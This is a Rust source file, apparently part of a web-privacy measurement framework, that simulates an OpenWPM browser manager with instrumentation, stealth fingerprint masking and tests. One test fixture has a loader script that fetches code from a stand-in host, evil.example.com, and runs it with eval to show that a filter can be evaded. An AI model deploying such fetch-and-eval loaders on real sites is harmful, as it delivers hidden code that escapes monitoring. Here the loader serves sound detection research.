@@ -1,0 +1,439 @@
+//! The browser manager: drives one emulated browser through page visits,
+//! deploying the configured instruments (Fig. 1's "automation +
+//! instrumentation" layers).
+
+use std::cell::RefCell;
+use std::rc::Rc;
+
+use browser::{CspPolicy, FingerprintProfile, Page};
+use netsim::{Cookie, HttpRequest, HttpResponse, ResourceType, Url};
+
+use crate::config::{BrowserConfig, JsInstrumentKind};
+use crate::instrument::{honey, http, stealth, vanilla, watch, StoreHandle};
+use crate::records::RecordStore;
+
+/// One script delivered with a page.
+#[derive(Clone, Debug)]
+pub struct PageScript {
+    /// Script URL; the host decides first/third-party attribution.
+    pub url: String,
+    pub source: String,
+    /// Content type it was served with (silent-delivery payloads lie here).
+    pub content_type: String,
+}
+
+/// Everything a site serves for one page visit.
+#[derive(Clone, Debug, Default)]
+pub struct VisitSpec {
+    pub url: String,
+    pub csp: Option<CspPolicy>,
+    /// Scripts executed in document order.
+    pub scripts: Vec<PageScript>,
+    /// Resources reachable via `fetch`/dynamic `<script src>`:
+    /// `(url, content_type, body)`.
+    pub server_resources: Vec<(String, String, String)>,
+    /// Static subresources of the page (images, css, fonts, ads…).
+    pub static_requests: Vec<(String, ResourceType)>,
+    /// Seconds to idle after load; defaults to the config's dwell time.
+    pub dwell_override_s: Option<u64>,
+}
+
+/// What the site serves *after* observing the client (the adaptive /
+/// cloaking phase): computed by the caller from the visit's dynamic
+/// traffic (e.g. detector verdict beacons).
+#[derive(Clone, Debug, Default)]
+pub struct SiteResponse {
+    pub cookies: Vec<Cookie>,
+    pub extra_requests: Vec<(String, ResourceType)>,
+}
+
+/// Outcome statistics of one visit.
+#[derive(Clone, Debug)]
+pub struct VisitStats {
+    /// Whether the JS instrument ended up installed (false when CSP blocked
+    /// the vanilla injection).
+    pub instrumented: bool,
+    /// Page-script errors swallowed during the visit.
+    pub script_errors: usize,
+    /// Names of installed honey properties (empty unless configured).
+    pub honey_names: Vec<String>,
+    /// Browser crashes encountered (visit was retried after each).
+    pub crashes: u32,
+}
+
+/// An OpenWPM-managed browser. Owns the record store its instruments write
+/// into; the store persists across visits (one store per crawl, like the
+/// real framework's per-crawl SQLite database).
+pub struct Browser {
+    pub config: BrowserConfig,
+    store: StoreHandle,
+    /// Browser instance number on the host (affects Ubuntu window offsets).
+    pub instance: u32,
+    visits: u64,
+}
+
+impl Browser {
+    pub fn new(config: BrowserConfig) -> Browser {
+        Browser { config, store: Rc::new(RefCell::new(RecordStore::new())), instance: 0, visits: 0 }
+    }
+
+    pub fn with_instance(mut self, instance: u32) -> Browser {
+        self.instance = instance;
+        self
+    }
+
+    /// The client profile this browser presents, including stealth geometry
+    /// overrides.
+    pub fn profile(&self) -> FingerprintProfile {
+        let mut p =
+            FingerprintProfile::openwpm(self.config.os, self.config.mode).with_instance(self.instance);
+        if self.config.js_instrument == JsInstrumentKind::Stealth {
+            if let Some(g) = self.config.stealth.window_geometry {
+                p.geometry = g;
+            }
+        }
+        p
+    }
+
+    /// Shared handle to the crawl's record store.
+    pub fn store(&self) -> StoreHandle {
+        self.store.clone()
+    }
+
+    /// Move the accumulated records out (end of crawl).
+    pub fn take_store(&mut self) -> RecordStore {
+        std::mem::take(&mut *self.store.borrow_mut())
+    }
+
+    /// Build the page for a visit with instrumentation installed — exposed
+    /// separately so experiments can interleave custom page interactions.
+    pub fn open_page(&mut self, spec: &VisitSpec) -> (Page, VisitStats) {
+        self.visits += 1;
+        let url = Url::parse(&spec.url).expect("visit spec URL must parse");
+        let mut page = Page::new(self.profile(), url.clone(), spec.csp.clone());
+        for (rurl, ctype, body) in &spec.server_resources {
+            page.add_server_resource(rurl, ctype, body);
+        }
+        let page_url = url.to_string();
+        // Per-visit event-id seed, like OpenWPM's per-load random id.
+        let visit_seed = self.config.seed ^ self.visits.wrapping_mul(0x9E37_79B9);
+        let instrumented = match self.config.js_instrument {
+            JsInstrumentKind::Off => true,
+            JsInstrumentKind::Vanilla => {
+                vanilla::install(&mut page, visit_seed, self.store.clone(), page_url.clone())
+            }
+            JsInstrumentKind::Stealth => {
+                stealth::install(
+                    &mut page,
+                    &self.config.stealth,
+                    self.store.clone(),
+                    page_url.clone(),
+                );
+                true
+            }
+        };
+        if self.config.watch_openwpm_props {
+            watch::install(&mut page, self.store.clone(), page_url.clone());
+        }
+        let honey_names = if self.config.honey_properties > 0
+            && self.config.js_instrument != JsInstrumentKind::Off
+        {
+            honey::install(
+                &mut page,
+                self.store.clone(),
+                visit_seed,
+                self.config.honey_properties,
+            )
+        } else {
+            Vec::new()
+        };
+        (page, VisitStats { instrumented, script_errors: 0, honey_names, crashes: 0 })
+    }
+
+    /// Visit a page with crash simulation and restart: a crashed visit is
+    /// retried once on a fresh browser state, like OpenWPM's BrowserManager
+    /// recovery loop.
+    pub fn visit(
+        &mut self,
+        spec: &VisitSpec,
+        responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
+    ) -> VisitStats {
+        if self.config.crash_per_mille > 0 {
+            // Deterministic crash draw per (seed, visit counter).
+            let draw = {
+                let mut x = self.config.seed ^ (self.visits.wrapping_mul(0x2545_F491_4F6C_DD1D));
+                x ^= x >> 33;
+                x = x.wrapping_mul(0xFF51_AFD7_ED55_8CCD);
+                (x % 1000) as u32
+            };
+            if draw < self.config.crash_per_mille {
+                // The crash loses the in-flight visit's page; the store
+                // (crawl database) survives, and the visit is retried.
+                self.visits += 1;
+                let mut stats = self.visit_once(spec, responder);
+                stats.crashes += 1;
+                return stats;
+            }
+        }
+        self.visit_once(spec, responder)
+    }
+
+    /// Visit a page: load static resources, run scripts, dwell, then let
+    /// `responder` decide the site's adaptive response from the observed
+    /// dynamic traffic (detector beacons etc.).
+    pub fn visit_once(
+        &mut self,
+        spec: &VisitSpec,
+        responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
+    ) -> VisitStats {
+        let (mut page, mut stats) = self.open_page(spec);
+        let url = Url::parse(&spec.url).expect("visit spec URL must parse");
+        let page_url = url.to_string();
+
+        // Static load: main frame plus declared subresources.
+        let mut static_reqs = vec![HttpRequest {
+            url: url.clone(),
+            page: url.clone(),
+            resource_type: ResourceType::MainFrame,
+            method: "GET",
+            time_ms: 0,
+        }];
+        for (rurl, rt) in &spec.static_requests {
+            if let Some(u) = Url::parse(rurl) {
+                static_reqs.push(HttpRequest {
+                    url: u,
+                    page: url.clone(),
+                    resource_type: *rt,
+                    method: "GET",
+                    time_ms: 0,
+                });
+            }
+        }
+        // Script subresources are requests too, and their bodies flow
+        // through the HTTP instrument's save filter.
+        for script in &spec.scripts {
+            if let Some(u) = Url::parse(&script.url) {
+                static_reqs.push(HttpRequest {
+                    url: u.clone(),
+                    page: url.clone(),
+                    resource_type: ResourceType::Script,
+                    method: "GET",
+                    time_ms: 0,
+                });
+                if let Some(mode) = self.config.http_instrument {
+                    http::record_response(
+                        &mut self.store.borrow_mut(),
+                        &HttpResponse {
+                            url: u,
+                            status: 200,
+                            content_type: script.content_type.clone(),
+                            body: script.source.clone(),
+                        },
+                        mode,
+                        &page_url,
+                    );
+                }
+            }
+        }
+        if self.config.http_instrument.is_some() {
+            http::record_requests(&mut self.store.borrow_mut(), &static_reqs);
+        }
+
+        // Execute page scripts in document order.
+        for script in &spec.scripts {
+            if page.run_script(&script.source, &script.url).is_err() {
+                stats.script_errors += 1;
+            }
+        }
+
+        // Dwell: drains extension frame injections, setTimeout detectors…
+        let dwell_s = spec.dwell_override_s.unwrap_or(self.config.dwell_seconds);
+        page.advance(dwell_s * 500);
+        if self.config.simulate_interaction {
+            // HLISA-style interaction mid-dwell: hover, scroll, click.
+            for kind in ["mouseover", "scroll", "click"] {
+                page.simulate_interaction(kind);
+            }
+        }
+        page.advance(dwell_s * 500);
+
+        // Dynamic traffic (fetches, beacons, csp reports, dynamic scripts).
+        let dynamic = page.traffic();
+        if let Some(mode) = self.config.http_instrument {
+            http::record_requests(&mut self.store.borrow_mut(), &dynamic);
+            // Bodies of dynamically-fetched server resources.
+            for req in &dynamic {
+                for (rurl, ctype, body) in &spec.server_resources {
+                    if req.url.to_string() == *rurl
+                        || rurl.ends_with(&format!("{}{}", req.url.host, req.url.path))
+                    {
+                        http::record_response(
+                            &mut self.store.borrow_mut(),
+                            &HttpResponse {
+                                url: req.url.clone(),
+                                status: 200,
+                                content_type: ctype.clone(),
+                                body: body.clone(),
+                            },
+                            mode,
+                            &page_url,
+                        );
+                    }
+                }
+            }
+        }
+
+        // Adaptive phase: the site reacts to what it observed.
+        let response = responder(&dynamic);
+        if self.config.http_instrument.is_some() {
+            let extra: Vec<HttpRequest> = response
+                .extra_requests
+                .iter()
+                .filter_map(|(rurl, rt)| {
+                    Url::parse(rurl).map(|u| HttpRequest {
+                        url: u,
+                        page: url.clone(),
+                        resource_type: *rt,
+                        method: "GET",
+                        time_ms: dwell_s * 1000,
+                    })
+                })
+                .collect();
+            http::record_requests(&mut self.store.borrow_mut(), &extra);
+        }
+        if self.config.cookie_instrument {
+            self.store.borrow_mut().cookies.extend(response.cookies);
+            // Cookies written via document.cookie are first-party session
+            // cookies from the page's own scripts.
+            let js_cookies = page.host.borrow().js_cookies.clone();
+            for raw in js_cookies {
+                if let Some((name, value)) = raw.split_once('=') {
+                    self.store.borrow_mut().cookies.push(Cookie {
+                        name: name.trim().to_owned(),
+                        value: value.split(';').next().unwrap_or("").trim().to_owned(),
+                        domain: url.host.clone(),
+                        page_domain: url.host.clone(),
+                        expires_in_s: None,
+                    });
+                }
+            }
+        }
+        stats
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::HttpSaveMode;
+
+    fn spec(url: &str) -> VisitSpec {
+        VisitSpec { url: url.into(), dwell_override_s: Some(1), ..Default::default() }
+    }
+
+    #[test]
+    fn visit_records_main_frame_and_scripts() {
+        let mut b = Browser::new(BrowserConfig::vanilla(1));
+        let mut s = spec("https://news.example.com/");
+        s.scripts.push(PageScript {
+            url: "https://news.example.com/app.js".into(),
+            source: "var x = navigator.userAgent;".into(),
+            content_type: "text/javascript".into(),
+        });
+        b.visit(&s, |_| SiteResponse::default());
+        let store = b.take_store();
+        assert!(store
+            .http_requests
+            .iter()
+            .any(|r| r.resource_type == ResourceType::MainFrame));
+        assert!(store.http_requests.iter().any(|r| r.resource_type == ResourceType::Script));
+        assert_eq!(store.saved_scripts.len(), 1);
+        assert_eq!(store.calls_to(".userAgent").count(), 1);
+    }
+
+    #[test]
+    fn responder_sees_beacons_and_serves_cookies() {
+        let mut b = Browser::new(BrowserConfig::vanilla(2));
+        let mut s = spec("https://shop.example.com/");
+        s.scripts.push(PageScript {
+            url: "https://bd.example.net/detect.js".into(),
+            source: "navigator.sendBeacon('https://bd.example.net/verdict?bot=1');".into(),
+            content_type: "text/javascript".into(),
+        });
+        b.visit(&s, |traffic| {
+            let bot = traffic
+                .iter()
+                .any(|r| r.resource_type == ResourceType::Beacon && r.url.query.contains("bot=1"));
+            assert!(bot, "responder must see the verdict beacon");
+            SiteResponse {
+                cookies: vec![Cookie {
+                    name: "throttled".into(),
+                    value: "1".into(),
+                    domain: "shop.example.com".into(),
+                    page_domain: "shop.example.com".into(),
+                    expires_in_s: None,
+                }],
+                extra_requests: vec![],
+            }
+        });
+        assert_eq!(b.take_store().cookies.len(), 1);
+    }
+
+    #[test]
+    fn stealth_browser_masks_webdriver_during_visit() {
+        let mut b = Browser::new(BrowserConfig::stealth(3));
+        let mut s = spec("https://site.example.com/");
+        s.scripts.push(PageScript {
+            url: "https://site.example.com/d.js".into(),
+            source: "navigator.sendBeacon('https://site.example.com/v?wd=' + navigator.webdriver);"
+                .into(),
+            content_type: "text/javascript".into(),
+        });
+        let mut saw = None;
+        b.visit(&s, |traffic| {
+            saw = traffic
+                .iter()
+                .find(|r| r.resource_type == ResourceType::Beacon)
+                .map(|r| r.url.query.clone());
+            SiteResponse::default()
+        });
+        assert_eq!(saw.as_deref(), Some("wd=false"));
+    }
+
+    #[test]
+    fn silent_delivery_bypasses_js_only_http_instrument_in_visit() {
+        let mut b = Browser::new(BrowserConfig::vanilla(4));
+        assert_eq!(b.config.http_instrument, Some(HttpSaveMode::JavascriptOnly));
+        let mut s = spec("https://evil.example.com/");
+        s.server_resources.push((
+            "https://evil.example.com/cheat".into(),
+            "text/plain".into(),
+            "window.secretRan = true;".into(),
+        ));
+        s.scripts.push(PageScript {
+            url: "https://evil.example.com/loader.js".into(),
+            source: "fetch('https://evil.example.com/cheat').then(function (r) { return r.text(); }).then(function (code) { eval(code); });".into(),
+            content_type: "text/javascript".into(),
+        });
+        b.visit(&s, |_| SiteResponse::default());
+        let store = b.take_store();
+        // The payload executed (loader is saved, payload request visible)…
+        assert!(store
+            .http_requests
+            .iter()
+            .any(|r| r.url.path == "/cheat" && r.resource_type == ResourceType::XmlHttpRequest));
+        // …but its body was never saved as a script.
+        assert!(
+            !store.saved_scripts.iter().any(|s| s.url.contains("/cheat")),
+            "silently delivered code must evade the JS-only filter"
+        );
+    }
+
+    #[test]
+    fn geometry_override_only_in_stealth() {
+        let v = Browser::new(BrowserConfig::vanilla(5));
+        assert_eq!(v.profile().geometry.screen_width, 2560);
+        let s = Browser::new(BrowserConfig::stealth(5));
+        assert_eq!(s.profile().geometry.screen_width, 1920);
+    }
+}
